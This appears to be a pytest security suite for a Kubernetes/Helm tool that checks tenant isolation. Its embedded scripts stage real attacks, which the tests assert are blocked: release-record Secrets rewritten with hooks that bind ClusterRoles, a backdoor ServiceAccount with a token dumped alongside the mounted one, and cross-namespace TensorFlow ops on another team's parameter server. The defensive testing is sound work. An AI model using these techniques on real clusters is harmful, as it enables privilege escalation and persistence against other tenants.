"""Trust boundaries (issue #31), tried as a tenant would, from inside their own notebook with
its own ServiceAccount token, while the admin runs every admin command: a planted release
record gains nothing, no priority class that was not granted preempts anyone, another
namespace's pod runs no TF op on a team's parameter server, a removed user's saved tokens
reach nothing that is kept, and the workspace's quotas, limits and placement hold."""

from __future__ import annotations

import json
import subprocess
import sys
import uuid

import pytest
from kubernetes import client

from tfhelm.chart import chart_path
from tfhelm.workspace import userspec

from .conftest import ROOT, run, volume_dir, wait_for

# Run in a tenant's notebook (kubectl exec), with what its pod has: its mounted token.
PRELUDE = """
import base64, gzip, json, sys
from kubernetes import client, config
config.load_incluster_config()
core, rbac, net = client.CoreV1Api(), client.RbacAuthorizationV1Api(), client.NetworkingV1Api()
ns = open("/var/run/secrets/kubernetes.io/serviceaccount/namespace").read()

def status(call):
    try:
        call()
        return 201
    except client.rest.ApiException as e:
        return e.status
"""

# The attack of issue #31: rewrite Helm's release records with a hook that binds a
# ClusterRole to another user's account (run with the rights of whoever uninstalls or
# upgrades), a manifest naming an object in a namespace the tenant cannot write (deleted by
# whoever uninstalls or upgrades), and values of the tenant's choosing.
PLANT = PRELUDE + """
victim_ns, bob_ns, marker_only = sys.argv[1], sys.argv[2], sys.argv[3:]
binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
           "metadata": {"name": "planted-" + ns},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
           "subjects": [{"kind": "ServiceAccount", "name": "user-env-notebook", "namespace": bob_ns}]}
marker = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "planted-hook-ran", "namespace": victim_ns}}
victim = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "victim", "namespace": victim_ns}}
events = ["pre-install", "post-install", "pre-delete", "post-delete", "pre-upgrade", "post-upgrade",
          "pre-rollback", "post-rollback", "test"]

def hook(name, obj):
    return {"name": name, "kind": obj["kind"], "path": "planted/" + name, "manifest": json.dumps(obj),
            "events": events, "last_run": {"started_at": "", "completed_at": "", "phase": ""},
            "weight": 0, "delete_policies": []}

def rewrite(secret, release):
    release["hooks"] = (release.get("hooks") or []) + (
        [hook("marker", marker)] if marker_only else [hook("marker", marker), hook("binding", binding)])
    release["manifest"] = (release.get("manifest") or "") + "\\n---\\n" + json.dumps(victim) + "\\n"
    release["config"] = {**(release.get("config") or {}), "rbac": {"extraRules": [
        {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}}
    secret.data["release"] = base64.b64encode(base64.b64encode(gzip.compress(json.dumps(release).encode()))).decode()
    return secret

got = {}
for s in core.list_namespaced_secret(ns, label_selector="owner=helm").items:
    release = json.loads(gzip.decompress(base64.b64decode(base64.b64decode(s.data["release"]))))
    got[s.metadata.name] = status(lambda: core.replace_namespaced_secret(s.metadata.name, ns, rewrite(s, release)))
    if s.metadata.labels.get("name") == "user-env":  # the workspace's own record: a new revision, a look-alike
        s.metadata = client.V1ObjectMeta(name="sh.helm.release.v1.user-env.v99", labels=s.metadata.labels)
        got["new user-env revision"] = status(lambda: core.create_namespaced_secret(ns, s))
        s.metadata = client.V1ObjectMeta(name="innocent", labels=s.metadata.labels)
        got["user-env look-alike"] = status(lambda: core.create_namespaced_secret(ns, s))
print(json.dumps(got))
"""

CLUSTER_WIDE = PRELUDE + """
print(json.dumps({"list every pod": status(lambda: core.list_pod_for_all_namespaces(limit=1))}))
"""


def in_notebook(user: str, *command: str, code: int | None = 0, timeout: float = 600) -> subprocess.CompletedProcess:
    """A command in the user's notebook container, as its user runs it from a Jupyter terminal."""
    ns = userspec.user_namespace(user)
    result = subprocess.run(["kubectl", "exec", "-n", ns, f"deploy/{userspec.component_name('notebook')}", "-c", "notebook",
                             "--", *command], capture_output=True, text=True, timeout=timeout, cwd=ROOT)
    assert code is None or result.returncode == code, f"{command[:3]} exited {result.returncode}:\n" \
                                                      f"{result.stdout}\n{result.stderr}"
    return result


def python(user: str, script: str, *args: str) -> dict:
    return json.loads(in_notebook(user, "python3", "-c", script, *args).stdout.strip().splitlines()[-1])


def admin(*args: str) -> subprocess.CompletedProcess:
    """A tfhelm command by the admin (the test's kubeconfig), whatever its exit code."""
    return subprocess.run([sys.executable, "-m", "tfhelm", *args], capture_output=True, text=True, timeout=900, cwd=ROOT)


@pytest.fixture(scope="module")
def tenants(kubeconfig):
    """Mallory (the attacker) and Bob, each with a workspace of their own, purged at the end."""
    names = [f"m{uuid.uuid4().hex[:5]}", f"b{uuid.uuid4().hex[:5]}"]
    for u in names:
        run("tfhelm", "user", "add", u, "--timeout", "300")
    yield names
    for u in names:
        admin("user", "remove", u, "--purge")


PREEMPT = PRELUDE + """
got = {}
for cls in sys.argv[1:]:
    pod = {"metadata": {"name": "urgent"}, "spec": {
        "priorityClassName": cls or None, "automountServiceAccountToken": False,
        "securityContext": {"runAsNonRoot": True, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}},
        "containers": [{"name": "c", "image": "tensorflow/tensorflow:2.21.0", "command": ["sleep", "1"],
                        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}}]}}
    got[cls] = status(lambda: core.create_namespaced_pod(ns, pod, dry_run="All"))
print(json.dumps(got))
"""


def test_no_tenant_preempts_anyone_with_a_priority_class_it_was_not_granted(tenants, api_client):
    mallory, bob = tenants
    scheduling = client.SchedulingV1Api(api_client)
    high = f"tfhelm-test-high-{uuid.uuid4().hex[:5]}"
    scheduling.create_priority_class(client.V1PriorityClass(metadata=client.V1ObjectMeta(name=high), value=1_000_000))
    try:
        classes = ("system-node-critical", "system-cluster-critical", high, "")
        assert python(mallory, PREEMPT, *classes) == {
            "system-node-critical": 403, "system-cluster-critical": 403, high: 403, "": 201}
        run("tfhelm", "user", "add", bob, "--priority-class", high)  # granted to Bob alone
        assert python(bob, PREEMPT, *classes) == {
            "system-node-critical": 403, "system-cluster-critical": 403, high: 201, "": 201}
        assert python(mallory, PREEMPT, high) == {high: 403}
    finally:
        run("tfhelm", "user", "add", bob)
        scheduling.delete_priority_class(high)


# TF ops on a parameter server from wherever this runs: read a file, list and write its logs
# volume. In a child process with a time limit: a server nobody may reach never answers.
TF_OPS = r"""
import json, subprocess, sys
ops = '''
import socket, sys, tensorflow as tf
ps, mark = sys.argv[1], sys.argv[2]
me = socket.gethostbyname(socket.gethostname()) + ":2222"
tf.config.experimental_connect_to_cluster(tf.train.ClusterSpec({"ps": [ps], "chief": [me]}), job_name="chief")
with tf.device("/job:ps/replica:0/task:0/device:CPU:0"):
    host = tf.io.read_file("/etc/hostname")
    tf.io.write_file("/log/" + mark, mark)
    files = tf.io.matching_files("/log/*")
print("TF-OPS", host.numpy().decode().strip(), sorted(f.decode() for f in files.numpy()))
'''
try:
    done = subprocess.run([sys.executable, "-c", ops, *sys.argv[1:]], capture_output=True, text=True, timeout=150)
    lines = [ln for ln in done.stdout.splitlines() if ln.startswith("TF-OPS")]
    print(json.dumps(lines[-1] if lines else "FAILED " + done.stderr.strip().splitlines()[-1]))
except subprocess.TimeoutExpired:
    print(json.dumps("BLOCKED: no answer in 150 s"))
"""


def test_another_namespaces_pod_runs_no_tf_op_on_a_teams_parameter_server(tenants, core, namespace, nodes):
    """A team's in-graph cluster (plain `helm install`, the chart's default fence) that lets
    one user's notebook drive it (`networkPolicy.clientFrom`): from that notebook TF ops run
    on its PS; from another user's notebook the same script gets no answer, and writes nothing."""
    mallory, bob = tenants
    driver = userspec.user_namespace(bob)
    peers = json.dumps([{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": driver}}}])
    run("helm", "install", "team", str(chart_path()), "-n", namespace, "--set", "mode=in-graph",
        "--set", "ps.replicas=1", "--set", "worker.replicas=1", "--set-json", f"networkPolicy.clientFrom={peers}",
        "--set", "storage.data.size=64Mi", "--set", "storage.logs.size=64Mi",
        *nodes.pin("ps", nodes.training[0]), *nodes.pin("worker", nodes.training[1]))

    def ps_ready():
        pods = core.list_namespaced_pod(namespace, label_selector="tfhelm.io/cluster=team,tfhelm.io/role=ps").items
        return any(c.type == "Ready" and c.status == "True" for p in pods for c in p.status.conditions or [])
    wait_for(ps_ready, 300, interval=1, what="the team's PS ready")
    ps = f"team-ps-0.{namespace}.svc.cluster.local:2222"
    attacked = python(mallory, TF_OPS, ps, "planted-by-mallory")
    assert attacked.startswith(("BLOCKED", "FAILED")), attacked
    driven = python(bob, TF_OPS, ps, "written-by-bob")
    assert driven.startswith("TF-OPS team-ps-0-") and "/log/written-by-bob" in driven, driven
    logs = volume_dir(core, namespace, "team-logs")
    assert (logs / "written-by-bob").exists() and not (logs / "planted-by-mallory").exists()


FENCED = PRELUDE + """
user_node, bob_ns = sys.argv[1], sys.argv[2]
sec = {"runAsNonRoot": True, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}}
csec = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}

def pod(name, labels=None, resources=None, **spec):
    c = {"name": "c", "image": "tensorflow/tensorflow:2.21.0", "command": ["sleep", "1"], "securityContext": csec,
         **({"resources": resources} if resources else {})}
    return {"metadata": {"name": name, "labels": labels or {}},
            "spec": {"automountServiceAccountToken": False, "securityContext": sec, "containers": [c], **spec}}

def create_pod(p):
    return status(lambda: core.create_namespaced_pod(ns, p, dry_run="All"))

toleration = [{"key": "tfhelm.io/user-node", "operator": "Equal", "value": "true", "effect": "NoSchedule"}]
fence = "user-env-same-namespace"
print(json.dumps({
    "a pod asking for a GPU": create_pod(pod("gpu", resources={"limits": {"nvidia.com/gpu": "1"}})),
    "a container of 64Gi": create_pod(pod("big", resources={"limits": {"memory": "64Gi"}})),
    "a pod named onto the user node": create_pod(pod("there", nodeName=user_node)),
    "a pod tolerating the user node": create_pod(pod("tolerant", tolerations=toleration)),
    "a pod tolerating every taint": create_pod(pod("all", tolerations=[{"operator": "Exists"}])),
    "a plain pod": create_pod(pod("plain")),
    "a 1.1 MiB ConfigMap": status(lambda: core.create_namespaced_config_map(
        ns, {"metadata": {"name": "huge"}, "data": {"x": "x" * (1100 * 1024)}}, dry_run="All")),
    "a policy admitting Bob's namespace": status(lambda: net.create_namespaced_network_policy(ns, {
        "metadata": {"name": "open"}, "spec": {"podSelector": {}, "ingress": [{"from": [{"namespaceSelector": {
            "matchLabels": {"kubernetes.io/metadata.name": bob_ns}}}]}]}}, dry_run="All")),
    "a policy admitting everyone": status(lambda: net.create_namespaced_network_policy(ns, {
        "metadata": {"name": "all"}, "spec": {"podSelector": {}, "ingress": [{}]}}, dry_run="All")),
    "a policy of its own namespace": status(lambda: net.create_namespaced_network_policy(ns, {
        "metadata": {"name": "own"}, "spec": {"podSelector": {}, "ingress": [{"from": [{"podSelector": {}}]}]}},
        dry_run="All")),
    "deleting the fence": status(lambda: net.delete_namespaced_network_policy(fence, ns, dry_run="All")),
    "widening the fence": status(lambda: net.patch_namespaced_network_policy(fence, ns, {
        "spec": {"ingress": [{}]}}, dry_run="All")),
    "a lease": status(lambda: client.CoordinationV1Api().create_namespaced_lease(ns, {
        "metadata": {"name": "l"}, "spec": {"holderIdentity": "x"}}, dry_run="All")),
}))
"""


def test_the_workspace_bounds_gpus_objects_containers_placement_and_its_own_fence(tenants, nodes):
    bob, mallory = tenants[1], tenants[0]
    got = python(bob, FENCED, nodes.user, userspec.user_namespace(mallory))
    assert got == {
        "a pod asking for a GPU": 403, "a container of 64Gi": 403, "a pod named onto the user node": 403,
        "a pod tolerating the user node": 403, "a pod tolerating every taint": 403,
        "a plain pod": 201, "a 1.1 MiB ConfigMap": 422,  # the API server's own 1 MiB: the count bounds bytes
        "a policy admitting Bob's namespace": 403, "a policy admitting everyone": 403,
        "a policy of its own namespace": 201, "deleting the fence": 403, "widening the fence": 403,
        "a lease": 201}, got
    # Object counts: granted by the admin, and refused past them.
    run("tfhelm", "user", "add", bob, "--quota", "count/leases.coordination.k8s.io=0", "--quota-gpus", "1")
    try:
        got = python(bob, FENCED, nodes.user, userspec.user_namespace(mallory))
        assert (got["a lease"], got["a pod asking for a GPU"]) == (403, 201), got
    finally:
        run("tfhelm", "user", "add", bob)


def test_a_planted_release_record_gains_its_tenant_nothing_from_any_admin_command(tenants, core, api_client,
                                                                                  namespace):
    mallory, bob = tenants
    ns, bob_ns = userspec.user_namespace(mallory), userspec.user_namespace(bob)
    victim = client.V1ConfigMap(metadata=client.V1ObjectMeta(name="victim"))
    core.create_namespaced_config_map(namespace, victim)  # in a namespace she may not write
    rbac = client.RbacAuthorizationV1Api(api_client)
    # Her own TF clusters, installed from her notebook with her account.
    for name in ("evil", "evil2"):
        in_notebook(mallory, "tfhelm", "up", "--name", name, "--workers", "1", "--ps", "1")
    planted = python(mallory, PLANT, namespace, bob_ns, "marker-only")
    # Her clusters' records are hers to write; the workspace's is the admin's, in every form.
    assert {k: v for k, v in planted.items() if ".evil" in k} == {
        "sh.helm.release.v1.evil.v1": 201, "sh.helm.release.v1.evil-ps.v1": 201,
        "sh.helm.release.v1.evil2.v1": 201, "sh.helm.release.v1.evil2-ps.v1": 201}, planted  # written
    assert planted["new user-env revision"] == planted["user-env look-alike"] == 403, planted
    assert [v for k, v in planted.items() if k.startswith("sh.helm.release.v1.user-env.")] == [403], planted

    # The control: plain `helm uninstall` by the admin runs her hook (a harmless marker here)
    # with the admin's rights.
    run("helm", "uninstall", "evil2-ps", "-n", ns)
    core.read_namespaced_config_map("planted-hook-ran", namespace)  # made with the admin's rights
    core.delete_namespaced_config_map("planted-hook-ran", namespace)
    python(mallory, PLANT, namespace, bob_ns)  # now the hook binds `view` to Bob's account

    # Every admin command on her namespace and her clusters.
    def said(*args: str, code: int | None = None) -> str:
        result = admin(*args)
        assert code is None or result.returncode == code, result.stderr
        return result.stderr
    for args in (("status", "evil", "-n", ns), ("list", "-A"), ("logs", "evil", "-n", ns), ("user", "list"),
                 ("tfconfig", "evil", "-n", ns, "--task", "ps:0")):
        said(*args)
    refused = said("up", "--user", mallory, "--name", "evil", "--workers", "1", "--ps", "1", code=5)
    assert f"ConfigMap {namespace}/victim" in refused and "nothing was changed" in refused, refused
    said("user", "add", mallory, code=0)
    role = rbac.read_namespaced_role(userspec.service_account(), ns)
    assert not any("*" in (r.verbs or []) + (r.resources or []) for r in role.rules)  # no planted values
    assert "no hooks run" in said("down", "evil", "-n", ns, code=0)
    said("down", "evil2", "-n", ns, "--purge", code=0)
    said("user", "remove", mallory, code=0)

    # She gained nothing: no binding for Bob, no hook ran, the object she named is there.
    assert not [b for b in rbac.list_cluster_role_binding().items if b.metadata.name.startswith("planted-")]
    core.read_namespaced_config_map("victim", namespace)
    assert "planted-hook-ran" not in [c.metadata.name for c in core.list_namespaced_config_map(namespace).items]
    assert python(bob, CLUSTER_WIDE) == {"list every pod": 403}  # from Bob's pod, with his token


REVOKED = PRELUDE + """
backdoor = "backdoor"
core.create_namespaced_service_account(ns, {"metadata": {"name": backdoor}})
rbac.create_namespaced_role(ns, {"metadata": {"name": backdoor}, "rules": [
    {"apiGroups": [""], "resources": ["secrets", "pods"], "verbs": ["get", "list", "create"]}]})
rbac.create_namespaced_role_binding(ns, {"metadata": {"name": backdoor},
    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": backdoor},
    "subjects": [{"kind": "ServiceAccount", "name": backdoor, "namespace": ns}]})
core.create_namespaced_secret(ns, {"metadata": {"name": "backdoor-token", "annotations": {
    "kubernetes.io/service-account.name": backdoor}}, "type": "kubernetes.io/service-account-token"})
import time
for _ in range(100):
    data = core.read_namespaced_secret("backdoor-token", ns).data or {}
    if "token" in data:
        break
    time.sleep(0.2)
print(json.dumps({"notebook": open("/var/run/secrets/kubernetes.io/serviceaccount/token").read(),
                  "backdoor": base64.b64decode(data["token"]).decode()}))
"""


def test_user_remove_revokes_what_the_user_made_and_the_old_tokens_reach_nothing_kept(tenants, api_client, core):
    mallory = tenants[0]
    if not _has_workspace(core, mallory):
        run("tfhelm", "user", "add", mallory, "--timeout", "300")
    ns = userspec.user_namespace(mallory)
    tokens = python(mallory, REVOKED)

    def as_token(token: str) -> client.CoreV1Api:
        cfg = client.Configuration()
        cfg.host, cfg.ssl_ca_cert = api_client.configuration.host, api_client.configuration.ssl_ca_cert
        cfg.api_key = {"authorization": f"Bearer {token}"}
        return client.CoreV1Api(client.ApiClient(cfg))

    for token in tokens.values():  # before: both reach the namespace
        assert as_token(token).list_namespaced_secret(ns).items
    removed = run("tfhelm", "user", "remove", mallory)
    said = " ".join(removed.stderr.split())
    for what in ("ServiceAccount backdoor", "ServiceAccount user-env-notebook", "RoleBinding backdoor",
                 "Role backdoor", "the login token"):
        assert what in said, said
    # The backdoor's token Secret goes with its account (the token controller deletes it, or
    # `remove` does: it deletes any left).
    wait_for(lambda: "backdoor-token" not in {s.metadata.name for s in core.list_namespaced_secret(ns).items},
             30, what="the backdoor's token Secret gone")
    assert "Kept in namespace" in said and "no account there can act on it any more" in said
    # The volumes stay; neither old token reaches them, the Secrets or the pods any more.
    assert {p.metadata.name for p in core.list_namespaced_persistent_volume_claim(ns).items} >= {
        userspec.claim_name(v) for v in ("code", "logs", "data")}
    for who, token in tokens.items():
        old = as_token(token)
        for what, call in (("read its Secrets", lambda: old.list_namespaced_secret(ns)),
                           ("list its PVCs", lambda: old.list_namespaced_persistent_volume_claim(ns)),
                           ("make a pod", lambda: old.create_namespaced_pod(ns, {"metadata": {"name": "x"}, "spec": {
                               "containers": [{"name": "x", "image": "x"}]}}, dry_run="All"))):
            with pytest.raises(client.rest.ApiException) as err:
                call()
            assert err.value.status in (401, 403), (who, what)


def _has_workspace(core, user: str) -> bool:
    return bool(core.list_namespaced_pod(userspec.user_namespace(user),
                                         label_selector="app.kubernetes.io/component=notebook").items)
